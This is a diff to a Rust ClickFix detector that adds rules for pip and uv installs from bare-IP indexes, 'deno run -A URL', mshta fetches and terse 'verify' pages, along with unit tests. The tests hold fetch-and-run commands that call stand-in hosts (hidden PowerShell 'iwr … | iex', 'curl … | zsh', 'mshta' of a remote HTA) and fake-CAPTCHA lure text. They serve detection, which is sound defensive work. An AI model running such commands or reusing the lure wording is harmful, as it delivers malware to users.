@@ -53,6 +53,9 @@ const TYPED_AFTER: usize = 1500;
 /// Bytes between two half-weight run places that name one place ("open File Explorer, click the
 /// address bar").
 const RUN_PLACE_PAIR: usize = 120;
+/// Bytes of title, text and alt texts (flattened) of a page that says next to nothing: its steps,
+/// if any, are in a picture.
+const TERSE_PAGE: usize = 160;
 
 /// Where a command runs: Windows run-dialog instructions only make a Windows command ClickFix.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -816,10 +819,13 @@ fn fetch_run(flat: &str) -> bool {
             .any(|w| has(flat, w))
 }
 
-/// `pip install` from a given package index, then an interpreter run (`python3 -m pip install
-/// --index-url http://203.0.113.4/simple/ x && python3 -m x`): the package's code fetched and run,
-/// `curl … | python3` by another road (review 40 R40-H2). Where from is judged as for a pipe: a
-/// firm's own index on its own site is its docs'.
+/// `pip install` (`uv pip install`) from a given package index, then an interpreter run
+/// (`python3 -m pip install --index-url http://203.0.113.4/simple/ x && python3 -m x`): the
+/// package's code fetched and run, `curl … | python3` by another road (review 40 R40-H2). Where
+/// from is judged as for a pipe: a firm's own index on its own site is its docs'. An index on a
+/// bare public IP over plain http needs no run after it: pip runs a source package's build code
+/// as it installs, and no project publishes so (review 41 R41-H2; devpi on localhost or a
+/// mirror on a private address is the person's network).
 fn index_run(flat: &str) -> bool {
     let Some(i) = find(flat, " install ") else {
         return false;
@@ -829,7 +835,21 @@ fn index_run(flat: &str) -> bool {
         && has(rest, "://")
         && (has(rest, "index-url") || has(rest, " -i "))
         // (A Python starting a later command: a package may be named `py`.)
-        && ["&& py", "; py", ";py"].iter().any(|w| has(rest, w))
+        && (["&& py", "; py", ";py"].iter().any(|w| has(rest, w))
+            || tokens(rest).iter().any(|t| {
+                find(t, "http://").is_some_and(|i| {
+                    let h = host_of(&t[i..]);
+                    ip_host(&h) && public_host(&h)
+                })
+            }))
+}
+
+/// `deno run -A URL` (`--allow-all`, `--allow-run`): a script fetched and run with every right
+/// (review 41 R41-H2). Deno's own examples run with none, or with the network only.
+fn deno_run(flat: &str) -> bool {
+    has(flat, "deno run")
+        && has_url(flat)
+        && (has_word(flat, "-a") || has_any(flat, "--allow-all --allow-run"))
 }
 
 /// A download saved to a Windows path and that same file run later on the line (review 32
@@ -1151,7 +1171,8 @@ fn shapes(flat: &str) -> Vec<Shape> {
     let substituted = ["$(curl", "$(wget", "<(curl", "<(wget"]
         .iter()
         .any(|s| has(flat, s));
-    if (fetch || fetch_run(flat)) && (to_shell || substituted) || index_run(flat) {
+    if (fetch || fetch_run(flat)) && (to_shell || substituted) || index_run(flat) || deno_run(flat)
+    {
         out.push(Shape::PipeToShell);
     }
     // Strongest first, no duplicates (a sort would add a monomorphised sort to the Wasm).
@@ -2301,7 +2322,7 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
     // An interpreter's inline code fetching and running (`pythonw -c "exec(urlopen(…))"`, `node
     // -e` fetch + eval) runs on Windows too: under Run-box steps it is a lure when the page keeps
     // it off the page with a story or fetches from another site (review 40 R40-H2); docs show it.
-    let interp_run = hidden_story && fetch_run(&command.flat);
+    let interp_run = hidden_story && (fetch_run(&command.flat) || deno_run(&command.flat));
     let windows_run = run_dialog
         && (command.windows_payload() || interp_run)
         && !docs
@@ -2334,12 +2355,56 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
     // (A hidden or encoded script fetching only over https is not enough: a docs page's hidden
     // tab copies `powershell -WindowStyle Hidden -Command "iwr https://…/install.ps1 | iex"`.
     // A page cut at the snapshot's bound may show the command past it: review 25 M1.)
+    // Steps drawn in a picture on a page of a few words that say only "Just a moment...",
+    // "Verify" or nothing: a hidden-window PowerShell download run, or a Unix download run, from
+    // another site is ClickFix on its own evidence (review 40 R40-H2). A vendor's terse "Deploy
+    // agent" page says what it copies: no check word (review 40 CF40-M1).
+    // (mshta, regsvr32 or a script host fetching from the internet: no vendor's page copies
+    // those, so a bare "verify" or "check" word is enough: review 41 R41-H2's image-only mshta;
+    // an IT "Tools" page's HTA from an https host stays silent.)
+    let lolbin = command.shapes.iter().any(|s| {
+        matches!(
+            s,
+            Shape::MshtaUrl | Shape::Regsvr32Url | Shape::ScriptHostUrl
+        )
+    });
+    // (A self-hosted server's page on its own address copies from there.)
+    let own_ip = page.site.len() > 3 && has(&command.flat, &page.site);
+    let terse = page.flat.len() <= TERSE_PAGE
+        // (From the internet: a join command to a private address is the person's network.)
+        && (fetch > 0 || !command.https_sites.is_empty())
+        && !command.fetches_from_site(&page.site)
+        && !command.fetches_from_owned(&page.site)
+        && !own_ip
+        && page.weight(Cat::InstallDocs) < 1.0
+        && (command.shapes.contains(&Shape::PowerShellHidden)
+            && command.shapes.contains(&Shape::PowerShellDownload)
+            || command.runs_on(Platform::Unix)
+            || lolbin)
+        && (told
+            || verify > 0.0
+            || !page.flat.bytes().any(|b| b.is_ascii_alphanumeric() || b > 127)
+            || has_any(
+                &page.flat,
+                "moment captcha robot human humain humano umano mensch checking お待ち робот",
+            )
+            // (A device "verification" page of an MDM may copy its agent from a CDN over https:
+            // the bare word only with a bare IP or plain http, or for mshta and the like, which
+            // no vendor copies.)
+            || (fetch > 0 || lolbin) && has_any(&page.flat, "verif vérif prüf 確認 провер 확인 验证"));
     let unseen = !typed
         && !page.cut
-        && (fetch > 0 || command.hides_script() && command.https_sites.is_empty())
+        && (fetch > 0 || command.hides_script() && command.https_sites.is_empty() || terse)
         && !page.shows_head(&command)
         && !write_up
-        && (fetch > 1 && (command.strong() || command.windows_payload() || paste)
+        && (fetch > 1
+            && (command.strong()
+                || command.windows_payload()
+                || paste
+                // (A package index on a bare public IP, not the page's own: no project
+                // publishes so, review 41 R41-H2.)
+                || !own_ip && index_run(&command.flat))
+            || terse
             || told
             || verify > 0.0
             || run_dialog
@@ -2416,7 +2481,7 @@ mod tests {
     const CAPTCHA: &str = "Verify you are human. Press Win + R, then Ctrl + V, then Enter.";
 
     #[test]
-    fn review40_windowless_python_and_pip_indexes() {
+    fn review40_windowless_python_pip_indexes_and_pages_of_a_few_words() {
         let on = |url: &str, parts: &[&str], clip: &str| {
             assess(clip, &PageHits::new(parts.iter().copied()).on(url)).is_some()
         };
@@ -2455,20 +2520,146 @@ mod tests {
             &["Tool", steps],
             own
         ));
+        assert!(
+            shapes_of("pip install --index-url https://pypi.firm.example/simple/ py").is_empty()
+        );
+        // A page of a few words (steps in a picture) with a check word or nothing readable:
+        // a hidden download run from elsewhere, or a Unix download run, is ClickFix.
+        let hidden = "powershell -w hidden -c \"iwr https://relay.test/s -useb | iex\"";
+        let mac = "curl -fsSL http://198.51.100.30/m | zsh";
+        assert!(on(
+            "https://gate.example/",
+            &["Please wait a moment", "Go"],
+            hidden
+        ));
+        assert!(on(
+            "https://gate.example/",
+            &["", "Bitte bestätigen: kein Roboter"],
+            hidden
+        ));
+        assert!(on("https://gate.example/", &["", ""], mac));
+        assert!(on("https://gate.example/", &["Verificación", "pasos"], mac));
+        // The same words over https from a host name: "verification" is also a device portal's.
+        assert!(!on(
+            "https://gate.example/",
+            &["Device verification", "Copy"],
+            hidden
+        ));
+        // A vendor's terse portal (review 40 CF40-M1), its own CDN, its own IP, install words,
+        // a private join command, a non-hidden command: silent.
+        for (url, parts, clip) in [
+            (
+                "https://portal.rmm.example/deploy",
+                &["Deploy agent", "Copy"],
+                hidden,
+            ),
+            (
+                "https://app.notewise.example/",
+                &["Just a moment", "Copy"],
+                "powershell -w hidden -c \"iwr https://dl.notewise-cdn.example/s.ps1 -useb | iex\"",
+            ),
+            (
+                "http://198.51.100.30:9000/",
+                &["Just a moment", "Copy"],
+                mac,
+            ),
+            (
+                "https://portal.rmm.example/",
+                &["Install the agent: please wait a moment", "Copy"],
+                hidden,
+            ),
+            (
+                "https://ops.example/",
+                &["Just a moment", "Copy"],
+                "curl -sfL http://10.0.0.5:6443/join | sh",
+            ),
+            (
+                "https://tool.example/",
+                &["Just a moment", "Copy"],
+                "irm https://relay.test/i.ps1 | iex",
+            ),
+        ] {
+            assert!(!on(url, parts, clip), "{url} {clip}");
+        }
+    }
+
+    #[test]
+    fn review41_bare_ip_indexes_deno_with_every_right_and_mshta_on_a_page_of_a_few_words() {
+        let on = |url: &str, parts: &[&str], clip: &str| {
+            assess(clip, &PageHits::new(parts.iter().copied()).on(url)).is_some()
+        };
+        // pip or uv from an index on a bare public IP over plain http: pip runs the package's
+        // build code, no run after it is needed; kept off the page, the command is the evidence.
+        let story = "The notebook engine stopped. Reinstall its helper where you work.";
         for clip in [
-            "pip install --index-url https://pypi.firm.example/simple/ py",
-            "pip install -i http://203.0.113.4/simple/ helper",
+            "pip install --index-url http://198.51.100.61:8080/simple/ --trusted-host 198.51.100.61 nb-helper",
+            "uv pip install --index-url http://203.0.113.91/simple gpu-fix",
+            "py -m pip install -i http://198.51.100.7/pypi codec",
+            "pip install --extra-index-url=http://203.0.113.12/pypi/ codec",
+        ] {
+            assert_eq!(shapes_of(clip), vec![Shape::PipeToShell], "{clip}");
+            assert!(on("https://engine-fix.example/", &["Engine", story], clip), "{clip}");
+        }
+        // Shown on a course page, on the index's own address, or from the person's network
+        // (devpi on localhost, a mirror on a private address), from an https index: not so.
+        let course = "pip install -i http://198.51.100.50/simple --trusted-host 198.51.100.50 lab";
+        let shown =
+            format!("The lab server holds the course packages. Open Terminal, paste: {course}");
+        assert!(!on("https://cs.uni.example/lab", &["Lab", &shown], course));
+        let own = "pip install --index-url http://198.51.100.15:8080/simple/ PACKAGE";
+        assert!(!on(
+            "http://198.51.100.15:8080/",
+            &["Index", "To use it with pip, run:"],
+            own
+        ));
+        for clip in [
+            "pip install -i http://localhost:3141/root/dev/+simple/ --trusted-host localhost lib",
+            "pip install --index-url http://10.20.30.40/simple --trusted-host 10.20.30.40 tools",
+            "uv pip install --index-url http://192.168.7.31:8080/simple tools",
+            "pip3 install lib --index-url https://download.ml.example/whl/cu121",
         ] {
             assert!(shapes_of(clip).is_empty(), "{clip}");
         }
-        // Pages of a few words (steps in a picture, "Just a moment..."): not read (left on branch
-        // clickfix41-terse, over this branch's Wasm share).
-        let hidden = "powershell -w hidden -c \"iwr https://relay.test/s -useb | iex\"";
+        // `deno run` with every right fetches a script and runs it as `curl | sh` does: a lure
+        // under Run-box steps with a story, kept off the page. Deno's examples run with no
+        // right or the network only; a project's own runs from its own site.
+        let deno = "deno run -A https://relay.test/check.ts";
+        assert_eq!(shapes_of(deno), vec![Shape::PipeToShell]);
+        assert_eq!(
+            shapes_of("deno run --allow-all https://relay.test/c.ts"),
+            vec![Shape::PipeToShell]
+        );
+        let steps = "The viewer could not start. Press Win + R, paste with Ctrl + V, press Enter.";
+        assert!(on("https://viewer-fix.example/", &["Viewer", steps], deno));
+        for clip in [
+            "deno run https://deno.land/std/examples/welcome.ts",
+            "deno run --allow-net https://deno.land/std/examples/curl.ts https://example.org",
+            "deno run -A main.ts",
+        ] {
+            assert!(shapes_of(clip).is_empty(), "{clip}");
+        }
+        let own = "deno run -A https://cli.tool.example/main.ts";
         assert!(!on(
-            "https://portal.rmm.example/deploy",
-            &["Deploy agent", "Copy"],
-            hidden
+            "https://cli.tool.example/install",
+            &["Install the CLI", "Open a terminal and paste the command."],
+            own
         ));
+        // mshta of a remote HTA from a page of a few words (steps in a picture): a bare
+        // "verify" or "check" word is enough, over https too. From the page's own site, or on a
+        // page with no such word: not so.
+        let hta = "mshta https://relay.test/v.hta";
+        assert!(on(
+            "https://static.pages.example/",
+            &["verification", ""],
+            hta
+        ));
+        assert!(on("https://hwakin.example.kr/", &["확인", ""], hta));
+        assert!(!on(
+            "https://tools.helpdesk.example/",
+            &["Launcher", "Copy"],
+            "mshta https://tools.helpdesk.example/launch.hta"
+        ));
+        assert!(!on("https://it.example/", &["Launcher", "Copy"], hta));
     }
 
     #[test]
